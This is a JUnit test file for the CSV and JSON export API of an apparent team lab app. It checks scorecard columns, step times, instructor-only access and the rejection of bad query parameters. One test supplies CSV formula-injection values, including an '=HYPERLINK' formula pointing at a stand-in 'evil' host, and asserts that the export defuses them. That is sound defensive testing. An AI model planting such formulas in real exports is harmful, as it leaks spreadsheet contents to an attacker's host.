package io.groupstage.web.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.groupstage.course.score.Coverage;
import io.groupstage.course.score.RetentionLoss;
import io.groupstage.course.score.Score;
import io.groupstage.course.score.UnreadUsers;
import io.groupstage.course.users.Position;
import io.groupstage.group.Cause;
import io.groupstage.group.fold.Told;
import io.groupstage.group.rebalance.Rebalance;
import io.groupstage.web.FakeLab;
import io.groupstage.web.WebFixture;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ExportTest {

    private static final String CSV = "/api/v1/export?format=csv&table=";

    @RegisterExtension
    final WebFixture web = new WebFixture();

    @BeforeEach
    void a_lab_was_used() {
        Map<String, Long> wrong = Map.of("NO_MATCH", 1L, "MISSING_FIELD:reason", 2L, "NEW_CODE", 4L);
        web.lab.teams.score = new Score(33, 4, wrong, Optional.of(new Coverage(40, 30, List.of(new Position(0, 118)))));
        web.lab.teams.deleted = new RetentionLoss(9, 8, UnreadUsers.NONE);
    }

    @Test
    void scorecards_have_a_line_for_each_team_and_a_column_for_each_code() throws Exception {
        HttpResponse<String> answer = instructor(CSV + "scorecards");

        assertThat(answer.headers().firstValue("Content-Type")).contains("text/csv; charset=utf-8");
        assertThat(answer.headers().firstValue("Content-Disposition"))
                .contains("attachment; filename=\"groupstage-scorecards-19700101T000009Z.csv\"");
        assertThat(answer.body())
                .isEqualTo("team,rank,task,correct,duplicate,wrong,WRONG_TYPE,WRONG_REASON,NO_MATCH,UNKNOWN_CUSTOMER,"
                        + "NOT_YET,MALFORMED_JSON,MISSING_FIELD:customer,MISSING_FIELD:type,MISSING_FIELD:reason,"
                        + "MISSING_FIELD:team,BAD_FIELD:customer,BAD_FIELD:type,BAD_FIELD:reason,BAD_FIELD:team,"
                        + "NOT_YOURS,TOO_LARGE,NEW_CODE,expected,missed,precision,recall,f1,forgotten,unread,"
                        + "unconfirmed_since_utc,unconfirmed_since_ms,bot,reset_at_utc,reset_at_ms\r\n"
                        + "team-1,1,1,33,4,7,0,0,1,0,0,0,0,0,2,0,0,0,0,0,0,0,4,40,10,0.825,0.75,0.7857,9,8,,,no,,\r\n"
                        + "team-2,2,2,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,,,,,,0,0,,,yes,,\r\n");
    }

    @Test
    void steps_have_a_line_each_with_their_times() throws Exception {
        assertThat(instructor(CSV + "steps").body())
                .isEqualTo("team,step,at_utc,at_ms\r\n"
                        + "team-1,CONNECTED,1970-01-01T00:00:01.000Z,1000\r\n"
                        + "team-1,FIRST_LOAD,1970-01-01T00:00:02.000Z,2000\r\n");
    }

    @Test
    void rebalances_are_exported_with_hostile_names_defused() throws Exception {
        Rebalance original = new Told().by("m-c", Cause.MEMBER_JOINED).rebalance();
        Rebalance foreign =
                new Told().by("=1+1", Cause.UNKNOWN).move(4, "m-b", "=1+1").rebalance();
        web.lab.groups.rebalances = List.of(
                hostile(original, "=HYPERLINK(\"http://evil/\"&A1)", "+cmd, \"now\""), hostile(foreign, "x", "-1"));

        List<String> lines =
                instructor(CSV + "rebalances").body().lines().limit(3).toList();

        assertThat(lines)
                .containsExactly(
                        "group,id,started_at_utc,started_at_ms,completed_at_utc,completed_at_ms,duration_ms,error_ms,"
                                + "precision,cause,cause_precision,culprits,from_epoch,to_epoch,moved,moves,handed_over,"
                                + "at_risk,redelivered,acted_twice,detail,sentence",
                        "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,UNKNOWN,exact,'=1+1,3,4,1,users-4:"
                                + " m-b to =1+1,users-4,12,,,'-1,\"A member made the group rebalance for an unknown"
                                + " reason, so partition 4 moved from a member to a member. It took 1.8 s.\"",
                        "team-1,4-2800,1970-01-01T00:00:01.000Z,1000,1970-01-01T00:00:02.800Z,2800,1800,0,exact,"
                                + "MEMBER_JOINED,exact,\"C (=HYPERLINK(\"\"http://evil/\"\"&A1))\",3,4,0,,users-4,12,,,"
                                + "\"'+cmd, \"\"now\"\"\",\"C joined, and no partition moved. It took 1.8 s.\"");
    }

    @Test
    void the_results_are_one_object_in_json() throws Exception {
        web.lab.groups.rebalances =
                List.of(new Told().by("m-c", Cause.MEMBER_JOINED).rebalance());

        HttpResponse<String> answer = instructor("/api/v1/export?format=json");
        JsonNode results = new ObjectMapper().readTree(answer.body());

        assertThat(answer.headers().firstValue("Content-Disposition"))
                .contains("attachment; filename=\"groupstage-19700101T000009Z.json\"");
        assertThat(results.path("exportedAt").asLong()).isEqualTo(9_000);
        assertThat(results.at("/scorecards/0"))
                .hasToString("{\"team\":\"team-1\",\"rank\":1,\"task\":1,\"score\":{\"correct\":33,\"duplicate\":4,"
                        + "\"wrong\":7,\"missed\":10,\"precision\":0.825,\"recall\":0.75,\"f1\":0.7857,\"wrongByCode\":"
                        + "{\"MISSING_FIELD:reason\":2,\"NEW_CODE\":4,\"NO_MATCH\":1},\"expected\":40,"
                        + "\"firstMissed\":[{\"partition\":0,\"offset\":118}]},\"forgotten\":9,\"unread\":8,"
                        + "\"scoreUnconfirmedSince\":null,\"bot\":false,\"resetAt\":null}");
        assertThat(results.at("/steps/1"))
                .hasToString("{\"team\":\"team-1\",\"step\":\"FIRST_LOAD\",\"at\":2000,"
                        + "\"time\":\"1970-01-01T00:00:02.000Z\"}");
        assertThat(results.at("/rebalances/0/cause").asText()).isEqualTo("MEMBER_JOINED");
    }

    @Test
    void only_the_instructor_gets_it() throws Exception {
        assertThat(web.get(CSV + "steps").statusCode()).isEqualTo(401);
        assertThat(web.get(CSV + "steps", "Authorization", "Bearer code-1").statusCode())
                .isEqualTo(403);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "format=xml | format: must be json, csv or html",
                "table=steps | format: must be json, csv or html",
                "format=html&table=steps | table: only for format=csv; the report has all tables",
                "format=csv | table: must be one of scorecards, steps, rebalances",
                "format=csv&table=STEPS | table: must be one of scorecards, steps, rebalances",
                "format=json&table=steps | table: only for format=csv; JSON has all tables",
            })
    void an_unknown_format_or_table_is_refused(String query, String line) throws Exception {
        HttpResponse<String> answer = instructor("/api/v1/export?" + query);

        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.body()).isEqualTo("{\"error\":\"" + line + "\"}");
    }

    private static Rebalance hostile(Rebalance original, String clientId, String detail) {
        Rebalance.Reason why = original.reason();
        return new Rebalance(
                original.id(),
                original.groupId(),
                original.protocol(),
                original.span(),
                new Rebalance.Reason(why.cause(), why.precision(), detail, why.culprits(), why.follows()),
                original.fromEpoch(),
                original.toEpoch(),
                List.of(new Rebalance.Person("m-c", 2, clientId, Optional.empty())),
                original.moves(),
                Set.of(),
                original.handOvers(),
                original.redelivered());
    }

    private HttpResponse<String> instructor(String path) throws Exception {
        return web.get(path, "Authorization", "Bearer " + FakeLab.TOKEN);
    }
}
